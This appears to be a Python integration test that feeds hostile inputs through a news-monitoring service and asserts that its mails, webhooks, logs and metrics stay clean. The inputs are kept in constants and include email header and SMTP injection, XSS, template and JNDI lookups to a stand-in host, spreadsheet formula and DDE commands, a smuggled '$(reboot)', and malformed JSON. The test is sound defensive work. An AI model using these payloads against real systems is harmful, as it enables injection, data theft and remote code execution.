"""Hostile documents through the whole monitor, over real sockets: from request and feed to mail and webhook.

One process with every stage, the embedded log and database, a stub model that calls all bad. What could be taken was
counted and told of; what could not is in the dead letters; nothing broke, and nothing broke out of its place.
"""

from __future__ import annotations

import http.client
import io
import json
import threading
from collections.abc import Iterator, Sequence
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

import pytest
from prometheus_client import CollectorRegistry

from monitor.app.monitor import Monitor
from monitor.demo.receivers import SmtpReceiver, WebhookReceiver
from monitor.domain import Mention, Prediction, Probabilities
from monitor.logs import configure_logging
from monitor.settings import LoggingSettings, Settings
from pipelines.routing import OneModel
from tests.fixtures.feed_server import send, serving
from tests.fuzz.properties import JOINERS, is_clean_line
from tests.integration.waiting import wait_for

NOW = datetime.now(UTC)
WATCHED = {"ACME": "Acme Corporation", "BETA": "Beta Holdings", "GAMM": "Gamma Limited"}
A_MESSAGE = 5  #: Stories that a message shows of one alert: so many titles name each company.
EVIL_HOST = "evil.example"

#: Titles, each with an attack on something that shows or carries them.
TITLES = (
    f"Acme Corporation falls\r\nBcc: victim@{EVIL_HOST}\r\n\r\n<h1>second body</h1>",
    "Acme Corporation\n.\nMAIL FROM:<x@evil.example>\nDATA",
    "Acme Corporation </title><script>alert(document.cookie)</script>",
    "Acme Corporation \"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "Acme Corporation {{ 7*7 }} {% include '/etc/passwd' %} {entity.__class__} %(levelname)s ${jndi:ldap://evil/a}",
    "Acme Corporation \x00 NUL \x07 bell \x1b[31m red \x1b]0;title\x07 \x9b2J",
    "Acme Corporation \u202egnp.exe\u202c \u2066isolated\u2069 \u061c\u200f turned",
    "A\u200bc\u200dm\u2060e\ufeff Corporation zero width \u00ad soft \U000e0041\U000e0042 tags",
    "Acme Corporation line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "Acme Corporation " + "e" + "\u0301" * 500 + " stacked",
    "Acme Corporation " + "\U0001f4a5" * 200,
    '=HYPERLINK("https://evil.example";"Acme Corporation")',
    "@SUM(1+1)*cmd|' /C calc'!A0 Acme Corporation",
    "Acme Corporation: " + "A" * 100_000,
    "acme corporation 阿克米公司 \ufdd0 \uffff non-characters",
)
AUTHORS = ("Ann\r\nX-Injected: yes", "<script>alert(1)</script>", "\u202eevil", "=cmd", "", "B" * 10_000, "Bob\x00by")
SOUND_URL = "https://ok.example/sound?a=1&b=2#c"
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
    "https://evil.example/\"onmouseover=\"alert(1)", "https://user:pass@evil.example/", "https://evil.example/\r\nX: x",
    "//evil.example/x", "https://", SOUND_URL, "https://ok.example/\u202egnp", "x" * 5000, "https://[", "file:///etc",
)  # fmt: skip
DEEP = b"[" * 100_000
RAW_BODIES = (
    DEEP + b"]" * 100_000, DEEP, b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"\\ud800 Acme Corporation"}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"\xed\xa0\x80 Acme Corporation"}',
    b'{"published_at":"9999999999999-01-01T00:00:00Z","source":"s","text":"x"}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"x","entities":["ACME\\r\\nX: y"]}',
    b'{"published_at":"2026-03-02T11:00:00Z","source":"s","text":"x","entities":["$(reboot)"]}',
    b'{"text":1e999999}', b"\x00" * 1000, b"\xff\xfe{\x00}\x00", b'"' + b"\\u0000" * 10_000 + b'"', b"NaN", b"{}",
)  # fmt: skip


class AllBad:
    """A stub label: this test looks at what is shown, it does not judge."""

    version = "bad-1"

    def classify(
        self, texts: Sequence[str], mentions: Sequence[Sequence[Mention]] | None = None
    ) -> Sequence[Prediction | Exception]:
        bad = Probabilities(negative=0.9, neutral=0.05, positive=0.05)
        return [Prediction(topic="Markets", topic_probability=0.5, probabilities=bad, model=self.version)] * len(texts)


def titles() -> list[tuple[int, str, str]]:
    """Every title with its number and its company's ticker, whose name stands in it."""
    tickers = [ticker for ticker in WATCHED for _ in range(A_MESSAGE)]
    return [
        (n, t.replace("Acme Corporation", WATCHED[ticker]), ticker)
        for n, (t, ticker) in enumerate(zip(TITLES, tickers, strict=True))
    ]


def documents() -> list[dict[str, Any]]:
    """Every title with an author and an address, in turn; each a story of its own."""
    return [
        {
            "id": f"id-{number}\r\nX: y", "source": f"desk {number % 3}\r\nX-Source: y", "title": title,
            "published_at": (NOW - timedelta(minutes=number + 3)).isoformat(), "text": f"{title} {number} {number**5}",
            "author": AUTHORS[number % len(AUTHORS)], "url": URLS[number % len(URLS)], "lang": "en\r\nX: y",
            "entities": [ticker],
        }
        for number, title, ticker in titles()
    ]  # fmt: skip


def feed() -> bytes:
    """The same as a feed, as far as XML can hold them; escaped twice, so that the markup arrives."""

    def held(value: str) -> str:
        kept = "".join(c for c in value if c in "\t\n\r" or " " <= c < "\ufdd0" or "\U00010000" <= c < "\U000e0000")
        return escape(escape(kept))

    items = "".join(
        f"<item><guid isPermaLink='false'>feed-{number}</guid><title>{held(title)}</title>"
        f"<link>{held(URLS[number % len(URLS)])}</link><author>{held(AUTHORS[number % len(AUTHORS)])}</author>"
        f"<description>{held(f'{title} {number} feed')}</description></item>"
        for number, title, _ in titles()
    )
    return f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>".encode()


@dataclass
class Outcome:
    """What the world saw of it."""

    mails: list[EmailMessage] = field(default_factory=list)
    hooks: list[Any] = field(default_factory=list)
    log: str = ""
    metrics: str = ""
    alerts: Any = None
    published: int = 0
    refused: int = 0
    statuses: list[int] = field(default_factory=list)
    refused_raw: int = 0


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """One run of the whole monitor over all of it."""
    found, written = Outcome(), io.StringIO()
    configure_logging(LoggingSettings(format="json", level="debug"), stream=written)
    with ExitStack() as stack:
        mail, hook = stack.enter_context(SmtpReceiver()), stack.enter_context(WebhookReceiver())
        served = stack.enter_context(serving(lambda request: send(request, feed(), Content_Type="application/rss+xml")))
        stop = threading.Event()
        settings = configuration(tmp_path_factory.mktemp("whole"), mail, hook, served)
        monitor = Monitor(settings, stop=stop, registry=CollectorRegistry())
        monitor.workshop.models = OneModel(AllBad())
        monitor.start(["ingest", "classify", "aggregate", "alert", "web"])
        try:
            observe(found, monitor, mail, hook)
        finally:
            stop.set()
            monitor.leave(timeout_s=60)
    found.log = written.getvalue()
    return found


def configuration(folder: Path, mail: SmtpReceiver, hook: WebhookReceiver, feed_url: str) -> Settings:
    """Everything on loopback; a rule that fires at five stories."""
    rule = {
        "name": "bad", "window": "1h", "method": "threshold", "sensitivity": 4, "baseline": {"min_history": "0s"},
        "gates": {"min_count": 1, "min_ratio": 1, "min_sources": 1, "min_coverage": 0},
        "annotations": {"summary": "{entity} {seen}"}, "labels": {"severity": "page"},
    }  # fmt: skip
    routes = [{"receiver": "mail", "continue": True}, {"receiver": "hook"}]
    return Settings.model_validate(
        {
            "database": {"url": f"sqlite:///{folder}/t.db"},
            "local_log": {"path": folder / "log.db"},
            "stream": {"partitions": 1},
            "web": {"port": 0},
            "sources": [{"type": "feed", "name": "wire", "url": feed_url, "every": "5s"}],
            "ingest": {"fetch": {"allow_private": True, "parse_timeout": "60s", "timeout": "60s"}},
            "watchlist": {"entities": [{"ticker": ticker, "name": name} for ticker, name in WATCHED.items()]},
            "alerting": {
                "evaluate_every": "1s",
                "rules": [rule],
                "route": {"receiver": "mail", "group_wait": "2s", "group_interval": "5s", "routes": routes},
                "receivers": [
                    {"type": "email", "name": "mail", "to": ["desk@risk.example"], "from": "t@risk.example",
                     "host": "127.0.0.1", "port": mail.port, "tls": "none"},
                    {"type": "webhook", "name": "hook", "url": hook.url},
                ],
            },
        }
    )  # fmt: skip


def observe(found: Outcome, monitor: Monitor, mail: SmtpReceiver, hook: WebhookReceiver) -> None:
    """Send everything, wait until it was told of, and look at what can be seen."""
    for document in documents():
        status, answer = post(monitor, json.dumps(document).encode())
        found.statuses.append(status)
        found.published += answer.get("published", 0)
        found.refused += len(answer.get("rejected", ()))
    for body in RAW_BODIES:
        status, answer = post(monitor, body)
        found.statuses.append(status)
        found.refused_raw += status == 400
    wait_for(lambda: counted(monitor) >= found.published + len(TITLES), seconds=120)
    wait_for(lambda: told(hook) >= set(WATCHED) and mail.mails, seconds=120)
    wait_for(lambda: all(name in text(mail) for name in WATCHED.values()), seconds=120)
    found.mails = [BytesParser(policy=policy.default).parsebytes(each.raw) for each in mail.mails]  # type: ignore[misc]
    found.hooks = [each.json for each in hook.hooks]
    found.metrics = get(monitor, "/metrics")[1].decode()
    found.alerts = json.loads(get(monitor, "/api/v1/alerts")[1])


def told(hook: WebhookReceiver) -> set[str]:
    """Companies that the webhook was told of."""
    return {alert["labels"]["entity"] for each in hook.hooks for alert in each.json["alerts"]}


def text(mail: SmtpReceiver) -> str:
    """All that the mails say in plain text."""
    bodies = (each.message.get_body(("plain",)) for each in mail.mails)
    return "".join(str(body.get_content()) for body in bodies if body is not None)


def counted(monitor: Monitor) -> float:
    """Documents that are in the buckets."""
    value = monitor.registry.get_sample_value("tapewatch_aggregate_documents_total", {"outcome": "counted"})
    return value or 0.0


def post(monitor: Monitor, body: bytes) -> tuple[int, dict[str, Any]]:
    """Push one body."""
    status, answer = ask(monitor, "POST", "/api/v1/documents", body)
    return status, json.loads(answer)


def get(monitor: Monitor, path: str) -> tuple[int, bytes]:
    """Ask for a page."""
    return ask(monitor, "GET", path, None)


def ask(monitor: Monitor, method: str, path: str, body: bytes | None) -> tuple[int, bytes]:
    """One request over a socket."""
    connection = http.client.HTTPConnection(urlsplit(monitor.address).netloc, timeout=30)
    try:
        connection.request(method, path, body, {"Content-Type": "application/json"} if body else {})
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


def test_what_could_be_taken_was_counted_and_what_could_not_was_refused(outcome: Outcome) -> None:
    """Fifteen documents over HTTP; of the raw bodies none: too deep, no UTF-8, no date, no ticker, no JSON, no text."""
    assert outcome.statuses == [202] * len(TITLES) + [400] * len(RAW_BODIES)
    assert (outcome.published, outcome.refused, outcome.refused_raw) == (len(TITLES), 0, len(RAW_BODIES))
    assert "Traceback" not in outcome.log


def test_mails_have_our_headers_alone_and_go_to_our_addressees_alone(outcome: Outcome) -> None:
    """No title, author or source begins a header, a body part or an SMTP command."""
    assert outcome.mails
    for mail in outcome.mails:
        names = {name.lower() for name in mail}
        assert not names & {"bcc", "cc", "x-injected", "x-source", "x", "reply-to", "sender"}
        assert mail["to"] == "desk@risk.example"
        assert is_clean_line(str(mail["subject"]))
        assert not mail.defects
        kinds = [part.get_content_type() for part in mail.walk() if not part.is_multipart()]
        assert set(kinds) <= {"text/plain", "text/html", "image/png"}
        assert (kinds.count("text/plain"), kinds.count("text/html")) == (1, 1)


MARKS = (
    "victim@", "MAIL FROM", "alert(document.cookie)", "onerror=", "{{ 7*7 }}", "NUL", "isolated", "zero width",
    "separator", "stacked", "\U0001f4a5", "=HYPERLINK", "@SUM", "AAAA", "\u963f\u514b\u7c73",
)  # fmt: skip


def test_every_attack_arrives_as_text(outcome: Outcome) -> None:
    """What the tests around this one do not find is tamed, not lost on the way."""
    plain = "".join(str(mail.get_body(("plain",)).get_content()) for mail in outcome.mails)  # type: ignore[union-attr]
    hooks = json.dumps(outcome.hooks, ensure_ascii=False)
    assert [mark for mark in MARKS if mark not in plain or mark not in hooks.replace('\\"', '"')] == []
    assert all(name in plain for name in WATCHED.values())


class Page(HTMLParser):
    """The tags, attributes and links of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {value or "" for name, value in attrs if name in ("href", "src")}


def test_pages_in_mails_hold_no_script_handler_or_odd_link(outcome: Outcome) -> None:
    """What a title says in angle brackets is text; what is no http(s) address is no link."""
    pages = [Page(str(mail.get_body(("html",)).get_content())) for mail in outcome.mails]  # type: ignore[union-attr]
    for page in pages:
        assert not page.tags & {"script", "iframe", "object", "form", "svg", "base", "embed"}
        assert not any(name.startswith("on") for name in page.attributes)
        assert all(link.startswith(("http://", "https://", "cid:")) for link in page.links)
        assert not any("onmouseover" in link or "user:pass@" in link or "\u202e" in link for link in page.links)


def test_every_line_of_every_text_is_clean(outcome: Outcome) -> None:
    """No control, direction, zero-width or tag character, no lone surrogate, in mails and webhooks alike."""
    for mail in outcome.mails:
        for kind in ("plain", "html"):
            body = mail.get_body((kind,))
            assert body is not None
            for line in body.get_content().splitlines():
                assert is_clean_line(line), ascii(line[:200])
    for hook in outcome.hooks:
        for text in texts(hook):
            assert all(is_clean_line(line) for line in text.split("\n")), ascii(text[:200])


def texts(value: Any) -> Iterator[str]:
    """Every text in a JSON value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)


def test_webhooks_link_what_is_an_address_and_nothing_else(outcome: Outcome) -> None:
    """Chat programs make links of whatever looks like one."""
    shown = [doc for hook in outcome.hooks for alert in hook["alerts"] for doc in alert["evidence"]["documents"]]
    assert shown
    assert {doc["url"] for doc in shown} - {None} <= {SOUND_URL, *("https://ok.example/" + tail for tail in ("gnp",))}
    assert all(len(text) <= 2000 for doc in shown for text in texts(doc))


def test_every_log_line_is_one_object_of_json(outcome: Outcome) -> None:
    """A title that could begin a line could make one up; a terminal would obey what a title says."""
    lines = outcome.log.splitlines()
    assert len(lines) > 10
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert not any(ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 for char in line)
    assert "X-Injected" not in outcome.log


def test_metrics_have_no_label_that_a_stranger_wrote(outcome: Outcome) -> None:
    """A label for each source name that somebody thinks of would fill Prometheus."""
    assert "X-Source" not in outcome.metrics
    assert EVIL_HOST not in outcome.metrics
    assert all(JOINERS[0] not in line and "\x1b" not in line for line in outcome.metrics.splitlines())


def test_the_api_shows_the_alert(outcome: Outcome) -> None:
    """And it is the one that was told of."""
    assert {alert["series"]["entity"] for alert in outcome.alerts if alert["state"] == "firing"} == set(WATCHED)
